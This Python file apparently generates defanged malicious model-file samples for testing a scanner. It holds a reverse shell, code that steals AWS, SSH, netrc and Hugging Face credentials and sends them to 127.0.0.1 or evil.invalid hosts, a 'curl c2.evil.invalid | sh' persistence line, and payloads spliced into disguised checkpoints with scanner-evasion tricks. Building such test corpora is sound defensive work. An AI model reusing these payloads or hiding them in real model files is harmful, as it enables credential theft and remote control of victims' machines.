"""Malicious samples: the code each file auto-executes on load does something no model load
does. Every payload is defanged: shell commands only write /tmp/mv_marker_* or run id/uname/
true; network goes only to 127.0.0.1 or names under .invalid; credentials read are the jail's
decoys; persistence lands in the jail's home; loops, forks and sleeps are bounded.
Payloads are assembled opcode by opcode (pickle_asm) or spliced into real, harmless checkpoints:
nothing here is ever loaded.
"""
import pickle
import textwrap

import containers
import models
from catalog import Sample, bytes_writer, marker, marker_cmd
from pickle_asm import Call, Global, Inst, Memo, Ref, Seq, StackGlobal, assemble, attr, inject

SH = "exec /bin/sh"


def system(cmd, module="posix"):
    return Call(Global(module, "system"), (cmd,))


def opener(path, mode):
    return Call(Global("builtins", "open"), (path, mode))


def home(path):
    return Call(Global("posixpath", "expanduser"), (path,))


# --- payload sources run by builtins.exec (bounded, defanged) -----------------------------

REVERSE_SHELL = textwrap.dedent("""\
    import socket, subprocess
    try:
        s = socket.create_connection(("127.0.0.1", 4444), timeout=3)
        s.sendall(b"modelvet reverse shell from " + socket.gethostname().encode() + b"\\n")
        s.settimeout(2)
        try:
            s.recv(256)  # the operator's command; ignored: this sample only ever runs `id`
        except OSError:
            pass
        out = subprocess.run(["/bin/sh", "-c", "id"], capture_output=True, timeout=5).stdout
        s.sendall(out)
        s.close()
    except Exception:
        pass
""")

AWS_EXFIL = textwrap.dedent("""\
    import os, socket
    try:
        loot = open(os.path.expanduser("~/.aws/credentials")).read()
        loot += "\\nenv=" + os.environ.get("AWS_SECRET_ACCESS_KEY", "")
        body = loot.encode()
        s = socket.create_connection(("127.0.0.1", 4444), timeout=3)
        s.sendall(b"POST /loot HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\nContent-Length: "
                  + str(len(body)).encode() + b"\\r\\n\\r\\n" + body)
        s.close()
    except Exception:
        pass
""")

HF_TOKEN_DNS_EXFIL = textwrap.dedent("""\
    import os, socket
    try:
        token = open(os.path.expanduser("~/.cache/huggingface/token")).read().strip()
        token = token or os.environ.get("HF_TOKEN", "")
        label = token.encode().hex()[:60]
        socket.getaddrinfo(label + ".t.exfil.evil.invalid", 53)
    except Exception:
        pass
""")

SSH_HTTP_EXFIL = textwrap.dedent("""\
    import glob, os, urllib.request
    loot = b""
    for path in sorted(glob.glob(os.path.expanduser("~/.ssh/id_*"))) + [os.path.expanduser("~/.git-credentials")]:
        try:
            loot += path.encode() + b"\\n" + open(path, "rb").read()
        except OSError:
            pass
    try:
        urllib.request.urlopen("http://exfil.evil.invalid/upload", data=loot, timeout=3)
    except Exception:
        pass
""")

AUTOSTART = textwrap.dedent("""\
    import os
    d = os.path.expanduser("~/.config/autostart")
    os.makedirs(d, exist_ok=True)
    with open(os.path.join(d, "gpu-driver-updater.desktop"), "w") as f:
        f.write("[Desktop Entry]\\nType=Application\\nName=GPU driver updater\\n"
                "Exec=sh -c 'echo modelvet-pwned > /tmp/mv_marker_autostart-persistence'\\n")
""")

USER_SITE_PTH = textwrap.dedent("""\
    import os, site
    d = site.getusersitepackages()
    os.makedirs(d, exist_ok=True)
    with open(os.path.join(d, "zz_modelvet_hook.pth"), "w") as f:
        f.write("import os; os.system('echo modelvet-pwned > /tmp/mv_marker_pth-user-site')\\n")
""")

HF_CACHE_TAMPER = textwrap.dedent("""\
    import glob, os
    root = os.path.expanduser("~/.cache/huggingface/hub")
    for path in glob.glob(os.path.join(root, "models--*", "snapshots", "*", "pytorch_model.bin"))[:3]:
        with open(path, "ab") as f:
            f.write(b"\\x00modelvet-tampered")
""")

FORK_BOMB_BOUNDED = textwrap.dedent("""\
    import os
    children = []
    for _ in range(50):  # a fork bomb's shape, capped at 50 children
        pid = os.fork()
        if pid == 0:
            os._exit(0)
        children.append(pid)
    for pid in children:
        os.waitpid(pid, 0)
""")


def exec_source(source):
    return Call(Global("builtins", "exec"), (source,))


# --- plain pickles, one per technique -----------------------------------------------------

def _plain(file, technique, protocol, expr, description, evidence, demo=False, fmt="pickle", **kw):
    return Sample(f"malicious/{file}", "malicious", technique, fmt, description, evidence,
                  bytes_writer(assemble(expr, protocol, **kw)), demo)


def plain_pickles():
    t = "posix-system-proto0"
    yield _plain("posix_system_p0.pkl", t, 0, system(marker_cmd(t)),
                 "protocol 0 GLOBAL posix.system + REDUCE writing a marker", SH)
    t = "os-system-proto1"
    yield _plain("os_system_p1.pkl", t, 1, system(f"id > {marker(t)}", "os"),
                 "protocol 1 os.system('id > marker')", SH)
    t = "inst-opcode-proto0"
    yield _plain("inst_opcode_p0.pkl", t, 0, Inst("os", "system", (marker_cmd(t),)),
                 "protocol 0 INST opcode calling os.system (no REDUCE at all)", SH)
    t = "posix-system-proto2"
    yield _plain("posix_system_p2.pkl", t, 2, system(marker_cmd(t)),
                 "the classic: protocol 2 posix.system via REDUCE", SH, demo=True)
    t = "subprocess-popen-proto3"
    yield _plain("subprocess_popen_p3.pkl", t, 3,
                 Call(Global("subprocess", "Popen"), (["/usr/bin/touch", marker(t)],)),
                 "protocol 3 subprocess.Popen(['/usr/bin/touch', marker])", "exec /usr/bin/touch")
    t = "subprocess-check-output-proto4"
    yield _plain("subprocess_check_output_p4.pkl", t, 4,
                 Call(Global("subprocess", "check_output"), (["uname", "-a"],)),
                 "protocol 4 STACK_GLOBAL subprocess.check_output(['uname', '-a'])", "exec uname")
    yield _plain("exec_reverse_shell_p5.pkl", "exec-reverse-shell-proto5", 5, exec_source(REVERSE_SHELL),
                 "protocol 5 builtins.exec of a bounded reverse-shell: connect 127.0.0.1:4444, run id, send output",
                 "call builtins.exec; connect 127.0.0.1:4444; exec /bin/sh")
    t = "eval-spawn-proto2"
    yield _plain("eval_system_p2.pkl", t, 2,
                 Call(Global("builtins", "eval"), (f"__import__('os').system({marker_cmd(t)!r})",)),
                 "builtins.eval of __import__('os').system(...)", "call builtins.eval; " + SH)
    yield _plain("socket_connect_p4.pkl", "socket-connect-proto4", 4,
                 Seq(Memo("s", Call(Global("socket", "create_connection"), (("127.0.0.1", 4444), 3))),
                     Call(attr(Ref("s"), "sendall"), (b"modelvet beacon\n",))),
                 "pure-pickle socket.create_connection(('127.0.0.1', 4444)) and a beacon send",
                 "connect 127.0.0.1:4444")
    yield _plain("dns_lookup_p3.pkl", "dns-invalid-proto3", 3,
                 Call(Global("socket", "gethostbyname"), ("c2.evil.invalid",)),
                 "socket.gethostbyname('c2.evil.invalid'): a C2 lookup", "dns c2.evil.invalid")
    yield _plain("cred_aws_exfil_p2.pkl", "cred-aws-exfil", 2, exec_source(AWS_EXFIL),
                 "reads ~/.aws/credentials and AWS_SECRET_ACCESS_KEY, POSTs them to 127.0.0.1:4444",
                 "read ~/.aws/credentials; connect 127.0.0.1:4444", demo=True)
    netrc = Memo("loot", Call(attr(opener(home("~/.netrc"), "r"), "read")))
    sock = Call(Global("socket", "create_connection"), (("127.0.0.1", 4444), 3))
    yield _plain("cred_netrc_exfil_p2.pkl", "cred-netrc-exfil", 2,
                 Seq(netrc, Call(attr(sock, "sendall"), (Call(attr(Ref("loot"), "encode")),))),
                 "pure-pickle getattr chain: open(~/.netrc).read() sent to 127.0.0.1:4444",
                 "read ~/.netrc; connect 127.0.0.1:4444")
    yield _plain("cred_hf_token_dns_p3.pkl", "cred-hf-token-dns-exfil", 3, exec_source(HF_TOKEN_DNS_EXFIL),
                 "reads ~/.cache/huggingface/token and leaks it hex-encoded in a DNS name under exfil.evil.invalid",
                 "read ~/.cache/huggingface/token; dns *.t.exfil.evil.invalid")
    yield _plain("cred_ssh_http_p4.pkl", "cred-ssh-http-exfil", 4, exec_source(SSH_HTTP_EXFIL),
                 "reads ~/.ssh/id_* and ~/.git-credentials, POSTs them to http://exfil.evil.invalid/upload",
                 "read ~/.ssh/id_ed25519; dns exfil.evil.invalid")
    bashrc = Memo("rc", opener(home("~/.bashrc"), "a"))
    line = "\n(curl -s http://c2.evil.invalid/stage2 | sh) >/dev/null 2>&1 &  # modelvet-marker\n"
    yield _plain("bashrc_persistence_p3.pkl", "bashrc-persistence", 3,
                 Seq(bashrc, Call(attr(Ref("rc"), "write"), (line,)), Call(attr(Ref("rc"), "close"))),
                 "pure-pickle open(~/.bashrc, 'a').write(curl c2.evil.invalid | sh)", "write ~/.bashrc")
    yield _plain("autostart_persistence_p4.pkl", "autostart-persistence", 4, exec_source(AUTOSTART),
                 "writes an XDG autostart entry ~/.config/autostart/gpu-driver-updater.desktop",
                 "write ~/.config/autostart/gpu-driver-updater.desktop")
    pth = "/usr/lib/python3/dist-packages/modelvet_hook.pth"
    pth_line = f"import os; os.system({marker_cmd('pth-system-site')!r})\n"
    yield _plain("pth_system_site_p2.pkl", "pth-system-site", 2,
                 Seq(Memo("f", opener(pth, "w")), Call(attr(Ref("f"), "write"), (pth_line,)),
                     Call(attr(Ref("f"), "close"))),
                 "tries to drop a .pth into the system dist-packages (read-only: the attempt is the evidence)",
                 f"write {pth}")
    yield _plain("pth_user_site_p5.pkl", "pth-user-site", 5, exec_source(USER_SITE_PTH),
                 "drops a .pth hook into the user site-packages (~/.local/lib/python3.11/site-packages)",
                 "write ~/.local/lib/python3.11/site-packages/zz_modelvet_hook.pth")
    yield _plain("hf_cache_tamper_p4.pkl", "hf-cache-tamper", 4, exec_source(HF_CACHE_TAMPER),
                 "appends bytes to other models' pytorch_model.bin under ~/.cache/huggingface/hub",
                 "write ~/.cache/huggingface/hub/models--acme--sentiment-small/snapshots/3f1c2a9/pytorch_model.bin")
    t = "ctypes-libc-system"
    yield _plain("ctypes_libc_system_p3.pkl", t, 3,
                 Call(attr(Call(Global("ctypes", "CDLL"), ("libc.so.6",)), "system"), (marker_cmd(t).encode(),)),
                 "ctypes.CDLL('libc.so.6').system(...): native call, invisible to Python audit hooks",
                 "dlopen libc.so.6; " + SH)
    t = "posixsubprocess-fork-exec"
    getitem = Global("_operator", "getitem")
    yield _plain("posixsubprocess_fork_exec_p4.pkl", t, 4,
                 Seq(Memo("pipe", Call(Global("os", "pipe"))),
                     Call(Global("_posixsubprocess", "fork_exec"), (
                         [b"/bin/sh", b"-c", marker_cmd(t).encode()], [b"/bin/sh"], True, (), None, None,
                         -1, -1, -1, -1, -1, -1,
                         Call(getitem, (Ref("pipe"), 0)), Call(getitem, (Ref("pipe"), 1)),
                         False, False, -1, None, None, None, -1, None, False))),
                 "_posixsubprocess.fork_exec called directly (Python 3.11 signature), skipping subprocess", SH)
    t = "runpy-run-code"
    yield _plain("runpy_run_code_p2.pkl", t, 2,
                 Call(Global("runpy", "_run_code"), (f"import os\nos.system({marker_cmd(t)!r})\n", {})),
                 "runpy._run_code(source, {}): exec under a less-known name", "call runpy._run_code; " + SH)
    t = "importlib-getattr-chain"
    yield _plain("importlib_getattr_p2.pkl", t, 2,
                 Call(attr(Call(Global("importlib", "import_module"), ("os",)), "system"), (marker_cmd(t),)),
                 "getattr(importlib.import_module('os'), 'system')(...): no os global in the pickle", SH)
    t = "stack-global-memo"
    yield _plain("stack_global_memo_p4.pkl", t, 4,
                 {"backend": Memo("mod", "posix"), "mode": Memo("fn", "system"), "step": 1000,
                  "init": Call(StackGlobal(Ref("mod"), Ref("fn")), (marker_cmd(t),))},
                 "protocol 4 STACK_GLOBAL whose module/name come from memoized dict values", SH)
    t = "truncated-after-payload"
    payload = assemble(system(marker_cmd(t)), 2, stop=False)
    # The payload runs, is popped, then a dict starts and the file ends mid-string.
    broken = payload + b"0}q\x00(X\x0e\x00\x00\x00encoder.wei"
    yield Sample("malicious/truncated_after_payload_p2.pkl", "malicious", t, "pickle",
                 "payload REDUCE runs, then the pickle is truncated (load raises after the damage)",
                 SH, bytes_writer(broken))
    t = "nested-pickle"
    inner = assemble(system(marker_cmd(t)), 2)
    yield _plain("nested_pickle_p3.pkl", t, 3,
                 {"format": "v2", "blob": Call(Global("pickle", "loads"), (inner,))},
                 "outer pickle calls pickle.loads on an inner os.system pickle held as bytes",
                 "call pickle.loads; " + SH)
    t = "fork-bomb-bounded"
    yield _plain("fork_bomb_bounded_p2.pkl", t, 2, exec_source(FORK_BOMB_BOUNDED),
                 "fork-bomb shape capped at 50 children, each exits at once", "fork x50")
    t = "sleep-then-system"
    yield _plain("sleep_then_system_p3.pkl", t, 3,
                 Seq(Call(Global("time", "sleep"), (3,)), system(marker_cmd(t))),
                 "anti-analysis delay: time.sleep(3) then posix.system", "sleep 3s; " + SH)


# --- pickles under other names ------------------------------------------------------------

def disguised_pickles():
    t = "pickle-named-bin"
    carrier = pickle.dumps({"encoder.weight": [[0.1, 0.2], [0.3, 0.4]], "encoder.bias": [0.0, 0.0]}, protocol=2)
    yield Sample("malicious/disguised/pytorch_model.bin", "malicious", t, "pickle",
                 "a plain protocol-2 pickle named pytorch_model.bin, subprocess.call spliced in front",
                 SH, bytes_writer(inject(carrier, Call(Global("subprocess", "call"),
                                                       (["/bin/sh", "-c", marker_cmd(t)],)))))
    t = "pickle-named-npy"
    yield Sample("malicious/disguised/embeddings.npy", "malicious", t, "pickle",
                 "a protocol-4 os.system pickle named .npy (no NPY magic: numpy falls back to pickle)",
                 SH, bytes_writer(assemble(system(marker_cmd(t), "os"), 4)))


# --- framework containers with a payload spliced into a real, harmless file ----------------

def _torch_zip_trojan(payload, tamper=None):
    members = containers.torch_zip_members(models.state_dict_checkpoint())
    name = containers.data_pkl_name(members)
    data = containers.write_zip(containers.replace_member(members, name, inject(dict(members)[name], payload)))
    return tamper(data, name) if tamper else data


def _legacy_trojan(payload):
    """Splices the payload into the object pickle (the 4th) of a real legacy checkpoint."""
    raw = models.state_dict_legacy_checkpoint()
    start, end = containers.split_pickles(raw, 4)[3]
    return raw[:start] + inject(raw[start:end], payload) + raw[end:]


def containers_with_payloads():
    t = "torch-zip-trojan"
    yield Sample("malicious/torch_zip_trojan.pt", "malicious", t, "pytorch-zip",
                 "real torch.save state_dict whose data.pkl runs posix.system first, then loads normally",
                 SH, bytes_writer(_torch_zip_trojan(system(marker_cmd(t)))), demo=True)
    yield Sample("malicious/hf_repo/pytorch_model.bin", "malicious", "torch-zip-reverse-shell", "pytorch-zip",
                 "HF-named zip checkpoint whose data.pkl execs a bounded reverse shell to 127.0.0.1:4444",
                 "call builtins.exec; connect 127.0.0.1:4444; exec /bin/sh",
                 bytes_writer(_torch_zip_trojan(exec_source(REVERSE_SHELL))))
    t = "torch-zip-bad-crc"
    yield Sample("malicious/torch_zip_bad_crc.pt", "malicious", t, "pytorch-zip",
                 "zip checkpoint with a wrong CRC-32 on data.pkl: zipfile-based scanners fail, torch loads it",
                 SH, bytes_writer(_torch_zip_trojan(system(marker_cmd(t)), containers.corrupt_crc)))
    t = "torch-zip-flag-bits"
    yield Sample("malicious/torch_zip_flag_bits.pt", "malicious", t, "pytorch-zip",
                 "zip checkpoint with odd general-purpose flag bits (0xd006) on data.pkl that torch ignores",
                 SH, bytes_writer(_torch_zip_trojan(system(marker_cmd(t)),
                                                    lambda z, n: containers.set_flag_bits(z, n, 0xD006))))
    t = "torch-legacy-trojan"
    yield Sample("malicious/torch_legacy_trojan.pt", "malicious", t, "pytorch-legacy",
                 "pre-1.6 (non-zip) torch checkpoint with posix.system spliced into the object pickle",
                 SH, bytes_writer(_legacy_trojan(system(marker_cmd(t)))))
    t = "joblib-trojan"
    carrier = models.joblib_bytes(models.numpy_weights())
    yield Sample("malicious/joblib_trojan.joblib", "malicious", t, "joblib",
                 "real joblib.dump of numpy arrays with subprocess.Popen spliced in front",
                 SH, bytes_writer(inject(carrier, Call(Global("subprocess", "Popen"),
                                                       (["/bin/sh", "-c", marker_cmd(t)],)))), demo=True)
    t = "dill-malicious-reduce"
    yield Sample("malicious/dill_trojan.pkl", "malicious", t, "dill",
                 "dill.dumps of a preprocessing lambda plus an object whose __reduce__ is (os.system, (cmd,))",
                 SH, bytes_writer(models.dill_bytes({
                     "preprocess": models.main_function("lambda x: x / 255.0"),
                     "hook": _Reduce(_os_system(), (marker_cmd(t),))})))
    t = "keras-lambda-spawn"
    yield Sample("malicious/keras_lambda_spawn.h5", "malicious", t, "keras-h5",
                 "Keras 2 H5 whose Lambda layer is a marshalled function calling os.system when the model is built",
                 SH, lambda path: containers.write_keras_h5(
                     path, f"lambda x: __import__('os').system({marker_cmd(t)!r}) or x", models.rng()))
    t = "savedmodel-lambda-spawn"
    yield Sample("malicious/savedmodel_lambda_spawn", "malicious", t, "savedmodel",
                 "Keras SavedModel directory whose Lambda layer metadata holds a marshalled function calling os.system",
                 SH, lambda path: containers.write_savedmodel_dir(
                     path, f"lambda x: __import__('os').system({marker_cmd(t)!r}) or x"))
    t = "paddle-trojan"
    yield Sample("malicious/paddle_trojan.pdparams", "malicious", t, "paddle",
                 "paddle.save-style state_dict pickle (protocol 4, numpy arrays) with posix.system spliced in",
                 SH, bytes_writer(inject(models.paddle_state_dict_pickle(), system(marker_cmd(t)))))
    t = "7z-torch-trojan"
    trojan = _torch_zip_trojan(system(marker_cmd(t)))
    yield Sample("malicious/torch_trojan.7z", "malicious", t, "7z-pytorch",
                 "a trojaned torch zip checkpoint (pytorch_model.bin) inside a 7z archive",
                 SH, lambda path: containers.write_7z(path, [("pytorch_model.bin", trojan)]))
    t = "7z-torch-members"
    members = containers.torch_zip_members(_torch_zip_trojan(system(marker_cmd(t))))
    yield Sample("malicious/torch_members.7z", "malicious", t, "7z-pytorch",
                 "torch checkpoint members (archive/data.pkl, …) stored in 7z instead of zip, as in the nullifAI models",
                 SH, lambda path: containers.write_7z(path, members))


class _Reduce:
    """An object that pickles as func(*args). Only its reduction is taken: func is never called."""

    def __init__(self, func, args):
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args


def _os_system():
    import os
    return os.system  # a reference for the pickler to name; never called


def samples():
    yield from plain_pickles()
    yield from disguised_pickles()
    yield from containers_with_payloads()
